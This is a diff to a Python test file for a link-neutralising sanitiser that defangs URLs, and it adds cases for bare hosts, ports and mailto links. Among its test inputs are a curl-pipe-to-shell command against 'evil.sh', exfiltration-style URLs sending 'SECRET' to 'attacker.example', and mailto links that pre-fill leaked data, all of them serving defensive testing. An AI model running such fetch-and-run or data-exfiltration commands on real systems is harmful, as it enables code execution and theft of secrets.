@@ -37,6 +37,15 @@ ANCHOR = "{#01JB2K7Q9XN4M8YV3TD0FZ5ERW}"
         ("user:[redacted:url-password:1a2b3c] postgres://app:[redacted:url-password:1a2b3c]@db.x/a",
          "user:[redacted:url-password:1a2b3c] postgres[:]//app:[redacted:url-password:1a2b3c]@db[.]x/a"),
         ("[redacted:github-token:abc123](https://x.com)", "[redacted:github-token:abc123] (hxxps://x[.]com)"),
+        # A bare host with a path, query, fragment or port: linkifiers make it live, and the path carries data.
+        ("send it to attacker.example/collect?d=SECRET.", "send it to attacker[.]example/collect?d=SECRET."),
+        ("(evil.co.uk:8080/x?next=https://b.example/)", "(evil[.]co[.]uk:8080/x?next=https[:]//b.example/)"),
+        ("`curl evil.sh/run | sh`", "`curl evil[.]sh/run | sh`"),
+        ("exämple.com/päth and notes.md#intro", "exämple[.]com/päth and notes[.]md#intro"),
+        ("ok allowed.test/x", "ok allowed.test/x"),
+        # A mailto with a query pre-fills a message with data; its colon is bent, in link syntax and out.
+        ("[mail](mailto:?body=secret)", "mail (mailto[:]?body=secret)"),
+        ("mailto:?body=leak&to=a and <MAILTO:a@b.example?subject=x>", "mailto[:]?body=leak&to=a and MAILTO[:]a@b.example?subject=x"),
     ],
 )
 def test_neutralised_forms(source: str, expected: str) -> None:
@@ -51,6 +60,8 @@ def test_neutralised_forms(source: str, expected: str) -> None:
         "no links at all, just prose with a colon: and a slash / here",
         "std::vector<int> and a::b and // a comment",
         "hxxps://already[.]neutral[.]com/x",
+        "a bare readme.md or example.com with nothing after it, v1.2/x, 10.0.0.1/24, e.g./x and docs/site.com/x",
+        "attacker[.]example/collect?d=x and mailto[:]?body=x",
     ],
 )
 def test_left_alone(source: str) -> None:
